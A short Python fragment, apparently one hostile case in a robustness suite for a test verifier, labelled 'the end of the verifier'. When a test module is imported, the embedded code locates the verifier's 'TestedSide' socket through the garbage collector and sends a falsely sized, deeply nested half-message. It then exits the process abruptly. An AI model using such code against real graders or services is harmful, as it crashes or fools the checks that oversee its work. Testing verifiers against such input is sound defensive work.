# class: the end of the verifier
"""While a test module is imported: endless names, deep values, and a connection that ends in half a message."""

tail('''
    def _flood():
        import gc, os, struct
        for one in gc.get_objects():
            if type(one).__name__ == "TestedSide":
                one.sock.sendall(struct.pack("<I", 8 << 20) + b"[" * (4 << 20))
                os._exit(0)

    _flood()
''')
